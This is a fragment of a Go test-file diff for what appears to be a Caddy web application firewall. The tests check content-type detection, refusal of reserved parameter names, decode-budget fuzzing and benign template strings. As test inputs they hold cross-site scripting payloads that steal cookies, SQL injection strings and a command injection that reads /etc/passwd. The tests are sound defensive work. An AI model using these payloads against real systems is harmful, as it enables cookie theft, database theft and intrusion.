+		"#!/bin/sh\necho \"$SECRET\" > /run/x\n": suffixScript, // two lines (a Kubernetes Secret's)
+		"#!/bin/sh\n":                            "",
+		"<script>alert(1)</script>":              "",
+		"From: a\r\n\r\n<script>x</script>":      "", // too short for a document
+		"Subject: x\r\n" + strings.Repeat("not a header line\r\n", 20) + "\r\n" + strings.Repeat("x", 300): "",
+		"<html>" + strings.Repeat("x", 60): "",
+		samlRequest("", "x"):               suffixMarkup,
+		`<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">x</saml:Issuer></samlp:AuthnRequest>`: suffixMarkup,
+		`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/><path d="M2 17l10 5 10-5"/></svg>`:                                                    suffixMarkup,
+		`<svg onload=alert(1)>` + strings.Repeat(" ", 200):           "",
+		strings.Repeat("1' UNION SELECT password FROM users-- ", 10): "",
+	} {
+		if got := documentKind(s); got != want {
+			t.Errorf("documentKind(%.40q) = %q, want %q", s, got, want)
+		}
+	}
+}
+
+// TestReservedNamesRefused: a client's own argument named as decoded
+// documents are (which the XSS and command-execution rules do not read)
+// is refused, in the query, a JSON body, a form and an XML attribute.
+func TestReservedNamesRefused(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	xss := "<script>alert(document.cookie)</script>"
+	for _, p := range []probe{
+		{name: "query", method: "GET", path: "/?q:base64:markup=" + url.QueryEscape(xss)},
+		{name: "JSON", method: "POST", path: "/api", contentType: "application/json", body: `{"q:base64:markup": "` + xss + `"}`},
+		{name: "JSON, inflated", method: "POST", path: "/api", contentType: "application/json", body: `{"a": {"q:base64:inflated:script": "; cat /etc/passwd"}}`},
+		{name: "form", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded", body: "q%3Abase64%3Amarkup=" + url.QueryEscape(xss)},
+		{name: "XML attribute", method: "POST", path: "/api", contentType: "application/xml", body: `<a x:base64:markup="` + strings.ReplaceAll(xss, "<", "&lt;") + `">1</a>`},
+	} {
+		if code, _ := send(t, base, p); code != http.StatusBadRequest && code != http.StatusForbidden {
+			t.Errorf("%s: %d, want it refused", p.name, code)
+		}
+	}
+	if *hits != 0 {
+		t.Errorf("the backend got %d of them", *hits)
+	}
+	if code, _ := send(t, base, probe{name: "ok", method: "GET", path: "/?q:base64=x&markup=y"}); code != http.StatusOK {
+		t.Errorf("names near the reserved ones: %d, want 200", code)
 	}
 }
 
@@ -345,15 +608,18 @@ func FuzzDecode(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, v string) {
-		d := decoder{budget: 4 * len(v)}
-		if err := d.value("f", v); err != nil {
-			t.Fatalf("a budget of 4x the input ran out: %v", err)
+		budget := 4 * len(v)
+		d := decoder{budget: budget}
+		if err := d.value("f", v); err != nil && err != errDecodeBudget {
+			t.Fatal(err)
 		}
 		total := 0
 		for _, a := range d.out {
 			total += len(a.value)
 		}
-		if len(d.out) > maxDecodeLevels || total > 2*len(v) {
+		// each level's text, and the template literals of each; all
+		// within the budget (compressed text inflates past the input)
+		if len(d.out) > 2*maxDecodeLevels+1 || total > budget {
 			t.Fatalf("%q: %d decoded values, %d bytes", v, len(d.out), total)
 		}
 	})
@@ -448,7 +714,10 @@ func TestTrailersAreRefused(t *testing.T) {
 // table: the CRS alone refuses it at paranoia 1 (a shell expression).
 func TestDetectionRulesLeaveTemplateVariablesAlone(t *testing.T) {
 	benign := []string{"${{ secrets.TOKEN }}", "${{ github.ref }}", "{{name}}", "{{#each items}}", "{{/each}}", "{{> partial}}",
-		"{{ price | currency }}", "{{order.id}}", "{2024 10}", "(7 x 7 cm)", "@home", "{{ blueprint }}"}
+		"{{ price | currency }}", "{{order.id}}", "{2024 10}", "(7 x 7 cm)", "@home", "{{ blueprint }}",
+		"{% set total = price %}", "{{ 'Dear ' ~ name }}", "{{ items|map(attribute='name')|join(', ') }}", "{{ titles|map('lower')|sort }}",
+		"{{ 7 }} of {{ 10 }}", "{% for i in items %}{{ i.id }}{% endfor %}", "Ticket #{123 456}", "Use (&) for AND and (|) for OR in LDAP filters",
+		"{{ request.path }}", "Prefer a || b; the value is 'n/a' || empty", "pages {1-2} and {3 4}"}
 	for _, line := range strings.Split(strings.TrimSpace(detectionRules), "\n") {
 		i := strings.Index(line, `"@rx `)
 		j := strings.Index(line[i+5:], `" "id:`)
@@ -503,4 +772,27 @@ func TestJSONAsOtherTypesNamesBounded(t *testing.T) {
 			t.Errorf("%s: 100 nested objects over 10 leaves: %v, want it inspected", ct, err)
 		}
 	}
+}
+
+// FuzzBinaryText: whatever the bytes, inflated text is within the limit
+// (inflating stops there), UTF-16 text at most 1.5 times the bytes, and no
+// panic.
+func FuzzBinaryText(f *testing.F) {
+	f.Add(deflated("<a>hello there</a>"), 100)
+	f.Add(gzipped("1' OR 1=1 --"), 100)
+	f.Add(utf16le("hello there, world"), 100)
+	f.Add(deflated(strings.Repeat("a", 10000)), 50)
+	f.Fuzz(func(t *testing.T, b []byte, limit int) {
+		limit = max(0, min(limit, 1<<16))
+		s, suffix, ok, err := binaryText(b, limit)
+		if ok && suffix == suffixInflated && len(s) > limit {
+			t.Fatalf("inflated %d bytes past a limit of %d", len(s), limit)
+		}
+		if ok && suffix == suffixUTF16 && 2*len(s) > 3*len(b) {
+			t.Fatalf("UTF-16: %d bytes of text from %d", len(s), len(b))
+		}
+		if err != nil && err != errDecodeBudget {
+			t.Fatal(err)
+		}
+	})
 }
